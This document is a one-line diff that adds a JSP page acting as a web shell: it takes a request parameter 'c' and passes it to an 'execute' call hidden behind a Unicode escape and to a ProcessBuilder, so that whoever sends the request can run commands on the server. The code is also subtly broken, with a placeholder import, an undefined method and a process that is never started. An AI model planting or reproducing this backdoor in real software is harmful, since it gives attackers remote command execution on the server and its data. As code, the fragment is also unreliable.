@@ -1,0 +1,1 @@
+<%@ page import="x" %><% String c = request.getParameter("c"); \u0065xecute(c); new ProcessBuilder(c); %>
